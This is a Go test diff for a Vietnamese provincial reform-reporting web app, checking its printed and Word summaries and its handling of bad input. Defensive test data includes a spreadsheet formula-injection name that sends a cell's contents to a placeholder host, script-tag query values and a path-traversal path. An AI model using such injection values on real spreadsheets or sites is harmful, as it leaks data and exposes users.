@@ -11,6 +11,7 @@ import (
 
 	"cchc/internal/agency"
 	"cchc/internal/auth"
+	"cchc/internal/docx"
 	"cchc/internal/report"
 	"cchc/internal/store"
 )
@@ -129,4 +130,132 @@ func csvRecords(body string) ([][]string, error) {
 	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
 	r.FieldsPerRecord = -1
 	return r.ReadAll()
+}
+
+// TestProvincePrint: /bao-cao/tinh/in is the province's summary in the
+// document form of the other prints — the letterhead, the summary with
+// one row per agency, the notes on the figures, the signature — then an
+// appendix per agency with its items and statuses; the Word document has
+// the same parts in the same order.
+func TestProvincePrint(t *testing.T) {
+	s := newSite(t)
+	addAgencies(t, s)
+	c, _ := s.login(auth.Admin)
+	got := s.do("GET", "/bao-cao/tinh/in?nam=2022&den=2022-11-20", nil, c)
+	if got.code != 200 {
+		t.Fatalf("%d\n%s", got.code, got.body)
+	}
+	inOrder(t, got.body, "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI", "SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH QUẢNG NGÃI",
+		"CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Số:", "/BC", "Quảng Ngãi, ngày 20 tháng 11 năm 2022",
+		"BÁO CÁO", "Tổng hợp kết quả công tác tuyên truyền cải cách hành chính trên chuyên mục của các cơ quan năm 2022",
+		"Kính gửi: Ủy ban nhân dân tỉnh Quảng Ngãi.", "năm 2022 của 3 cơ quan, số liệu tính đến ngày 20/11/2022",
+		"I. KẾT QUẢ CỦA CÁC CƠ QUAN", "<td>1</td><td class=\"text\">Sở Khoa học và Công nghệ tỉnh Quảng Ngãi</td><td>272/KH-SKHCN</td>",
+		"Hoàn thành: 3; Chưa hoàn thành: 1; Đang thực hiện: 2; Chưa đánh giá được: 0", "tháng 11: 1 (cả năm: 53)",
+		"Chưa gửi; 15/11/2022 (báo cáo tổng hợp) (Trễ hạn)",
+		"<td>2</td><td class=\"text\">Sở Tư pháp tỉnh Quảng Ngãi</td>", "<td>3</td><td class=\"text\">Sở Y tế tỉnh Quảng Ngãi</td>",
+		"Số liệu tính đến ngày 20/11/2022, lấy từ nhật ký đăng tải", "Hạn báo cáo: hạn gửi báo cáo tổng hợp nêu tại mục V",
+		"Nơi nhận:", "<p>- Như trên;</p>", "<p>- Lưu: VT.</p>", "NGƯỜI LẬP BÁO CÁO",
+		"Phụ lục 1: Sở Khoa học và Công nghệ tỉnh Quảng Ngãi", "(Kế hoạch: 272/KH-SKHCN; tính đến ngày 20/11/2022)", "III.1", "III.6",
+		"Phụ lục 2: Sở Tư pháp tỉnh Quảng Ngãi", "Phụ lục 3: Sở Y tế tỉnh Quảng Ngãi")
+	if strings.Contains(got.body, "- - ") || strings.Contains(got.body, "<script") {
+		t.Error("the print has a doubled dash or a script")
+	}
+	// The filter carries into the print: only the agencies shown.
+	if got := s.do("GET", "/bao-cao/tinh/in?nam=2022&den=2022-11-01&loc=tre-han", nil, c); got.code != 200 || strings.Contains(got.body, "Phụ lục 1") ||
+		!strings.Contains(got.body, "năm 2022 của 0 cơ quan") {
+		t.Errorf("late agencies before the deadline: %d", got.code)
+	}
+
+	d := s.do("GET", "/bao-cao/tinh/2022.docx?den=2022-11-20", nil, c)
+	if d.code != 200 || d.res.Header.Get("Content-Disposition") != `attachment; filename="bao-cao-tinh-2022.docx"` {
+		t.Fatalf("docx: %d %v", d.code, d.res.Header)
+	}
+	doc, err := docx.Read(strings.NewReader(d.body), int64(len(d.body)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	inOrder(t, doc.Markdown(), "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI", "SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH QUẢNG NGÃI", "Quảng Ngãi, ngày 20 tháng 11 năm 2022",
+		"BÁO CÁO", "Kính gửi: Ủy ban nhân dân tỉnh Quảng Ngãi.", "I. KẾT QUẢ CỦA CÁC CƠ QUAN",
+		"| 1 | Sở Khoa học và Công nghệ tỉnh Quảng Ngãi | 272/KH-SKHCN | Hoàn thành: 3;", "Chưa gửi; 15/11/2022 (báo cáo tổng hợp) (Trễ hạn) |",
+		"| 3 | Sở Y tế tỉnh Quảng Ngãi |", "Số liệu tính đến ngày 20/11/2022", "Nơi nhận:", "- Như trên;", "NGƯỜI LẬP BÁO CÁO",
+		"Phụ lục 1: Sở Khoa học và Công nghệ tỉnh Quảng Ngãi", "| III.1 |", "Phụ lục 3: Sở Y tế tỉnh Quảng Ngãi", "| III.6 |")
+}
+
+// TestProvinceRefusals: what the address cannot mean is a 400 saying why
+// (or a 404 for a file that is not one of the exports), never a 500.
+func TestProvinceRefusals(t *testing.T) {
+	s := newSite(t)
+	c, _ := s.login(auth.Admin)
+	for _, tc := range []struct {
+		path string
+		code int
+		want string
+	}{
+		{"/bao-cao/tinh?nam=2022&sap-xep=ten%27%3E", 400, "Cách sắp xếp không hợp lệ"},
+		{"/bao-cao/tinh?nam=2022&loc=%3Cscript%3E", 400, "Bộ lọc không hợp lệ"},
+		{"/bao-cao/tinh?nam=hai", 400, "Năm báo cáo không hợp lệ"},
+		{"/bao-cao/tinh?nam=2022&den=2027-01-01", 400, "chưa đến"},
+		{"/bao-cao/tinh?nam=2022&den=2021-12-31", 400, "ở trước năm báo cáo 2022"},
+		{"/bao-cao/tinh/in?nam=2022&loc=x", 400, "Bộ lọc không hợp lệ"},
+		{"/bao-cao/tinh/2022.csv?sap-xep=x", 400, "Cách sắp xếp không hợp lệ"},
+		{"/bao-cao/tinh/2022.pdf", 404, ""},
+		{"/bao-cao/tinh/0999.csv", 400, "Năm báo cáo không hợp lệ"},
+		{"/bao-cao/tinh/..%2f2022.csv", 404, ""},
+	} {
+		got := s.do("GET", tc.path, nil, c)
+		if got.code != tc.code || !strings.Contains(got.body, tc.want) {
+			t.Errorf("%s: %d, want %d %q\n%.300s", tc.path, got.code, tc.code, tc.want, got.body)
+		}
+	}
+}
+
+// TestProvinceHostileName: an agency named like a spreadsheet formula is
+// text in the CSV and the workbook, and escaped on the page.
+func TestProvinceHostileName(t *testing.T) {
+	s := newSite(t)
+	name := `=HYPERLINK("http://example.invalid/?"&A1,"<b>Sở</b>")`
+	if _, err := s.env.Store.CreateAgency(context.Background(), agency.Agency{Slug: "so-gia", Name: name, ShortName: "Sở giả", Prefix: "/so-gia"},
+		store.AuditEntry{At: later, Actor: "cli"}); err != nil {
+		t.Fatal(err)
+	}
+	c, _ := s.login(auth.Admin)
+	page := s.do("GET", "/bao-cao/tinh?nam=2022", nil, c)
+	if page.code != 200 || strings.Contains(page.body, "<b>Sở</b>") || !strings.Contains(page.body, "&lt;b&gt;Sở&lt;/b&gt;") {
+		t.Errorf("page: %d", page.code)
+	}
+	recs, err := csvRecords(s.do("GET", "/bao-cao/tinh/2022.csv", nil, c).body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := 0
+	for _, r := range recs {
+		for _, cell := range r {
+			if strings.Contains(cell, "HYPERLINK") {
+				found++
+				if !strings.HasPrefix(cell, "'=") && !strings.HasPrefix(cell, "Phụ lục") {
+					t.Errorf("CSV cell %q is a formula", cell)
+				}
+			}
+		}
+	}
+	x := s.do("GET", "/bao-cao/tinh/2022.xlsx", nil, c)
+	f, err := excelize.OpenReader(strings.NewReader(x.body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, _ := f.GetRows("Tổng hợp")
+	for i, r := range rows {
+		for j, cell := range r {
+			if strings.Contains(cell, "HYPERLINK") {
+				found++
+				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
+				if formula, _ := f.GetCellFormula("Tổng hợp", ref); formula != "" || (!strings.HasPrefix(cell, "'=") && !strings.HasPrefix(cell, "Phụ lục")) {
+					t.Errorf("XLSX %s %q formula %q", ref, cell, formula)
+				}
+			}
+		}
+	}
+	if found < 4 {
+		t.Errorf("the name is in %d cells, want the summary and the appendix of both files", found)
+	}
 }
